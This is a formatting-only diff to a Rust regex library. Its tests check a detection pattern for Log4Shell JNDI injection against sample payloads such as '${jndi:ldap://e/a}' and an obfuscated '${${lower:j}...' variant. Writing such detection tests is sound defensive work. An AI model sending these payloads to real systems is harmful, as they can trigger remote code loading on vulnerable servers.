@@ -179,9 +179,7 @@ impl PyRegex {
                 }
                 Ok(false)
             }
-            Engine::Backtracking { re, .. } => {
-                re.is_match(haystack).map_err(|_| StepLimitExceeded)
-            }
+            Engine::Backtracking { re, .. } => re.is_match(haystack).map_err(|_| StepLimitExceeded),
         }
     }
 }
@@ -240,8 +238,14 @@ mod tests {
     #[test]
     fn escaped_underscore_and_bare_brace() {
         assert!(m(r"FLUSH\_ALL", "FLUSH_ALL"));
-        assert!(m(r"\$\{(?:jndi|\${[^}]*}):(?:ldap)s?://", "${${lower:j}:ldap://x"));
-        assert!(m(r"\$\{(?:jndi|\${[^}]*}):(?:ldap)s?://", "/?q=${jndi:ldap://e/a}"));
+        assert!(m(
+            r"\$\{(?:jndi|\${[^}]*}):(?:ldap)s?://",
+            "${${lower:j}:ldap://x"
+        ));
+        assert!(m(
+            r"\$\{(?:jndi|\${[^}]*}):(?:ldap)s?://",
+            "/?q=${jndi:ldap://e/a}"
+        ));
         assert!(m(r"a{", "a{"));
         assert!(m(r"a{1,x}", "a{1,x}"));
     }
